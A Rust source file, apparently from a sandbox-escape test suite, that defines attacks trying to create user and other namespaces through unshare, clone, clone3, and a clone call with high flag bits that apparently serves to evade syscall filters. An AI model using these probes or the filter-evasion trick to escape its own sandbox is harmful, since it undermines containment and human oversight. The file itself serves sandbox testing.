//! S9: makes namespaces inside, which give all capabilities over a private part of the kernel.

use std::io;

use crate::attack::Attack;
use crate::attacks::kernel::{leave, small, sys, wait};
use crate::attacks::proof;
use crate::needs;

const ROW: Attack = Attack {
    id: "S9",
    what: "gets a user namespace of its own and with it every capability over the kernel code behind it",
    prepare: proof::demanded,
    needs: &[&needs::USERNS],
    ..Attack::ROW
};

/// Bits above the 32nd, which clone drops.
const HIGH: u64 = 0x5a5a_0000_0000_0000;

pub(super) const UNSHARE: Attack = Attack {
    name: "userns-by-unshare",
    attack: |args| sys!(SYS_unshare, libc::CLONE_NEWUSER).and_then(|_| proof::show(args, 0)),
    ..ROW
};

pub(super) const CLONE: Attack = Attack {
    name: "userns-by-clone",
    attack: |args| cloned(args, || sys!(SYS_clone, libc::CLONE_NEWUSER | libc::SIGCHLD, 0, 0, 0, 0)),
    ..ROW
};

pub(super) const CLONE_DIRTY: Attack = Attack {
    id: "X4",
    name: "userns-by-clone-high-word",
    attack: |args| {
        let flags = HIGH | (libc::CLONE_NEWUSER | libc::SIGCHLD) as u64;
        cloned(args, || sys!(SYS_clone, flags, 0, 0, 0, 0))
    },
    ..ROW
};

pub(super) const CLONE3: Attack = Attack {
    name: "userns-by-clone3",
    attack: |args| {
        let words = [libc::CLONE_NEWUSER as u64, 0, 0, 0, libc::SIGCHLD as u64, 0, 0, 0, 0, 0, 0];
        cloned(args, || sys!(SYS_clone3, &words, 88))
    },
    ..ROW
};

pub(super) const OTHERS: Attack = Attack {
    name: "namespaces-of-every-kind",
    attack: |args| {
        let kinds = [libc::CLONE_NEWNS, libc::CLONE_NEWNET, libc::CLONE_NEWPID, libc::CLONE_NEWIPC];
        let more = [libc::CLONE_NEWUTS, libc::CLONE_NEWCGROUP, 0x80];
        let made = kinds.into_iter().chain(more).filter(|kind| {
            sys!(SYS_unshare, *kind).or_else(|_| sys!(SYS_unshare, libc::CLONE_NEWUSER | *kind)).is_ok()
        });
        if made.count() > 0 { proof::show(args, 0) } else { Err(io::Error::other("none")) }
    },
    ..ROW
};

fn cloned(args: &[String], clone: impl Fn() -> io::Result<usize>) -> io::Result<()> {
    let pid = small(clone()?)?;
    if pid == 0 {
        leave(i32::from(proof::show(args, 0).is_err()));
    }
    wait(pid).map(|_| ())
}
